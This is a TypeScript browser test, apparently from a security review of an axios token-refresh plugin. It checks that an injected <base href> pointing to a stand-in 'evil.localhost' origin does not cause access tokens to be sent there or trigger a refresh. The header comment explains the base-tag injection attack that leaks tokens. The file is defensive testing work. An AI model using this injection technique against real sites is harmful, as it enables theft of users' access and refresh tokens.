/**
 * h2 break-it review, in real Chromium: an instance with a relative `baseURL` ('/api', the usual setup for a SPA that
 * calls its own backend) treats the origin a `<base href>` points to as its own. A `<base>` element injected into the
 * page (HTML injection without script, which a CSP without `base-uri` allows) sends every API request to the
 * attacker with the access token, and the attacker's 401 makes the plugin refresh and hand over the new token too.
 * docs/api.md "allowedOrigins": "The own origin is the baseURL's (in a browser without an absolute baseURL, the
 * page's)". Without a baseURL the same request correctly goes out bare.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startLoopbackServers, type LoopbackServers } from '../../support/scope-servers.js';
import { launchChromium } from '../support/chromium.js';
import { buildPageBundle } from '../support/page-bundle.js';

let browser: Browser;
let page: Page;
let servers: LoopbackServers;

beforeAll(async () => {
  const bundle = await buildPageBundle('../review-session7/browser/scope-entry.ts');
  servers = await startLoopbackServers({
    '/app/': {
      type: 'text/html',
      body: '<!doctype html><meta charset="utf-8"><title>h2</title><script src="/bundle.js"></script>',
    },
    '/bundle.js': { type: 'text/javascript', body: bundle },
    '/favicon.ico': { type: 'image/x-icon', body: '' },
  });
  browser = await launchChromium();
  page = await browser.newPage();
  await page.goto(`http://api.localhost:${servers.allowedPort}/app/`);
});

afterEach(() => {
  servers.arrivals.length = 0;
});

afterAll(async () => {
  await browser?.close();
  await servers?.close();
});

describe.each(['xhr', 'fetch'] as const)('a <base href> on another origin, %s adapter', (adapter) => {
  it.each(['/api', 'api'])('baseURL %j: no token and no refresh for the origin <base href> names', async (baseURL) => {
    const refreshes = await page.evaluate(
      async ([evilPort, base, adapterName]) => {
        const { axios, attachRefresh } = (globalThis as never as { h2: Record<string, never> }).h2 as never as {
          axios: { create(config: object): { get(url: string): Promise<unknown> } };
          attachRefresh(api: unknown, options: object): unknown;
        };
        const element = document.createElement('base');
        element.href = `http://evil.localhost:${evilPort}/`;
        document.head.append(element);
        let count = 0;
        try {
          const api = axios.create({ baseURL: base, adapter: adapterName });
          attachRefresh(api, {
            tokens: { accessToken: 'access-1', refreshToken: 'refresh-1' },
            refresh: async () => {
              count += 1;
              return { accessToken: 'access-2' };
            },
          });
          await api.get('/me').catch(() => undefined);
        } finally {
          element.remove();
        }
        return count;
      },
      [servers.evilPort, baseURL, adapter] as const,
    );
    // The request really went to the other origin (the browser resolved it against <base href>)...
    expect(servers.arrivals.length).toBeGreaterThan(0);
    // ...and must not carry a token there, nor make the plugin refresh for that origin's 401.
    const tokensAtEvil = servers.arrivals
      .filter((arrival) => arrival.server === 'evil')
      .map((arrival) => arrival.authorization);
    expect(tokensAtEvil.filter((value) => value !== undefined)).toEqual([]);
    expect(refreshes).toBe(0);
  });
});
